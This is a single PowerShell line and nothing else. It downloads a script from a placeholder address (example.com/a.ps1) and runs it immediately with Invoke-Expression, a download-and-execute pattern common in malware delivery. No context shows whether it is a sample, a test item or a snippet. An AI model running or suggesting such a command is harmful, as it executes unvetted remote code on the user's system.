iex (iwr https://example.com/a.ps1 -UseBasicParsing).Content
